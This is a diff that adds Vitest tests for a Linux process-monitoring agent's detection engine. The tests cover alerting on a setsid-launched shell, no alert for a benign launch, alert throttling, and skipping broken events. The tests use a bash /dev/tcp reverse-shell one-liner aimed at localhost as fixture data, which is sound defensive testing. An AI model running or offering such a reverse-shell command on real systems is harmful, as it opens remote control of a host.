@@ -1,0 +1,137 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { AlertThrottle } from '../../src/alerts/index.js';
+import { Engine, type EngineEmitter } from '../../src/agent/engine.js';
+import { loadRuleSet } from '../../src/agent/rule-loading.js';
+import type { ProcSnapshot, RawEvent } from '../../src/capture/raw-event.js';
+import { ProcessEventStream, type HostInfo } from '../../src/ecs/index.js';
+import { FixtureProcFs } from '../../src/process/index.js';
+import { execEvent, forkEvent, exitEvent, SteppedClock } from '../process/raw-events.js';
+import { makeProcTree, writeProcess, removeTree } from '../process/proc-tree.js';
+
+const HOST: HostInfo = {
+  name: 'lab-host',
+  hostname: 'lab-host',
+  id: '0123456789abcdef0123456789abcdef',
+  architecture: 'x86_64',
+  os: { type: 'linux', kernel: '6.18.0', name: 'Debian GNU/Linux', version: '12', platform: 'debian', family: 'debian', full: 'Debian GNU/Linux 12' },
+};
+
+function snapshot(argv: string[], exe: string, ppid: number, pid: number): ProcSnapshot {
+  return {
+    cmdline: Buffer.from(`${argv.join('\0')}\0`),
+    cmdlineTruncated: false,
+    comm: exe.split('/').pop()!.slice(0, 15),
+    exe,
+    cwd: '/root',
+    ppid,
+    pgid: pid,
+    sid: pid,
+    ttyNr: 0,
+    startTicks: 5000 + pid,
+    ruid: 0,
+    euid: 0,
+    rgid: 0,
+    egid: 0,
+    cgroup: '/user.slice',
+    failed: [],
+  };
+}
+
+function collector(): EngineEmitter & { events: Record<string, unknown>[]; alerts: Record<string, unknown>[] } {
+  const events: Record<string, unknown>[] = [];
+  const alerts: Record<string, unknown>[] = [];
+  return { events, alerts, event: (d) => events.push(d as unknown as Record<string, unknown>), alert: (d) => alerts.push(d as unknown as Record<string, unknown>) };
+}
+
+/** A shell (pid 100) that runs `setsid bash -c '<payload>'` as pid `child`; setsid then execs bash. */
+function reverseShellLaunch(child: number, payload: string): RawEvent[] {
+  return [
+    forkEvent(100, child),
+    execEvent(child, snapshot(['setsid', 'bash', '-c', payload], '/usr/bin/setsid', 100, child)),
+    execEvent(child, snapshot(['bash', '-c', payload], '/usr/bin/bash', 100, child)),
+    exitEvent(child, 0),
+  ];
+}
+
+describe('Engine', () => {
+  let root: string;
+  let procfs: FixtureProcFs;
+
+  beforeAll(() => {
+    root = makeProcTree();
+    writeProcess(root, { pid: 1, ppid: 0, comm: 'systemd', argv: ['/sbin/init'], exe: '/usr/lib/systemd/systemd', startTicks: 1 });
+    writeProcess(root, { pid: 100, ppid: 1, comm: 'bash', argv: ['bash'], exe: '/usr/bin/bash', startTicks: 900 });
+    procfs = new FixtureProcFs(root);
+  });
+  afterAll(() => removeTree(root));
+
+  async function engine(clock: SteppedClock, emitEvents = false): Promise<Engine> {
+    const { ruleSet, ok } = await loadRuleSet([], null);
+    expect(ok).toBe(true);
+    const stream = new ProcessEventStream({ procfs, host: HOST, clock });
+    stream.seed();
+    return new Engine({ stream, rules: ruleSet, throttle: new AlertThrottle(clock, { windowMs: 60_000 }), clock, emitEvents });
+  }
+
+  it('alerts on setsid launched from a shell with a /dev/tcp redirect, attributed to the wrapper', async () => {
+    const clock = new SteppedClock();
+    const e = await engine(clock);
+    const out = collector();
+    e.handleBatch(reverseShellLaunch(200, 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'), out);
+    const seed = out.alerts.filter((a) => (a.rule as { id: string }).id === '259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39');
+    expect(seed).toHaveLength(1);
+    const process = seed[0]!.process as Record<string, unknown>;
+    expect(process.name).toBe('setsid');
+    expect(process.args).toEqual(['setsid', 'bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1']);
+    expect((process.parent as Record<string, unknown>).name).toBe('bash');
+    expect((seed[0]!.event as Record<string, unknown>).kind).toBe('alert');
+    expect(e.stats().alerts).toBe(out.alerts.length);
+  });
+
+  it('does not alert on a benign setsid, and emits events only when asked', async () => {
+    const clock = new SteppedClock();
+    const quiet = await engine(clock, false);
+    const out = collector();
+    quiet.handleBatch(reverseShellLaunch(300, 'sleep 1'), out);
+    expect(out.alerts).toHaveLength(0);
+    expect(out.events).toHaveLength(0);
+
+    const chatty = await engine(clock, true);
+    const all = collector();
+    chatty.handleBatch(reverseShellLaunch(301, 'sleep 1'), all);
+    expect(all.events.map((d) => (d.event as { action: string }).action)).toEqual(['fork', 'exec', 'exec', 'end']);
+    const second = all.events[2]!.process as Record<string, unknown>;
+    expect(second.name).toBe('bash');
+    // As Elastic Defend writes it: the image inherited at fork, then each image exec replaced.
+    expect(second.previous).toEqual([
+      { args: ['bash'], args_count: 1, executable: '/usr/bin/bash' },
+      { args: ['setsid', 'bash', '-c', 'sleep 1'], args_count: 4, executable: '/usr/bin/setsid' },
+    ]);
+  });
+
+  it('holds back repeats of the same alert and reports their count when the window closes', async () => {
+    const clock = new SteppedClock();
+    const e = await engine(clock);
+    const out = collector();
+    const payload = 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1';
+    for (let i = 0; i < 5; i++) e.handleBatch(reverseShellLaunch(400 + i, payload), out);
+    const seedCount = (): number => out.alerts.filter((a) => (a.rule as { id: string }).id === '259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39').length;
+    expect(seedCount()).toBe(1);
+    clock.advance(61_000);
+    e.flushThrottled(out);
+    expect(seedCount()).toBe(2);
+    const summary = out.alerts.filter((a) => (a.rule as { id: string }).id === '259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39')[1]!;
+    expect((summary.execwarden as { throttle: { suppressed: number } }).throttle.suppressed).toBe(4);
+    expect(String(summary.message)).toContain('repeated 4 more times');
+  });
+
+  it('counts a raw event it cannot handle and goes on', async () => {
+    const clock = new SteppedClock();
+    const e = await engine(clock);
+    const out = collector();
+    const broken = null as unknown as RawEvent;
+    e.handleBatch([broken, ...reverseShellLaunch(501, 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1')], out);
+    expect(e.stats().failedEvents).toBe(1);
+    expect(out.alerts.length).toBeGreaterThan(0);
+  });
+});
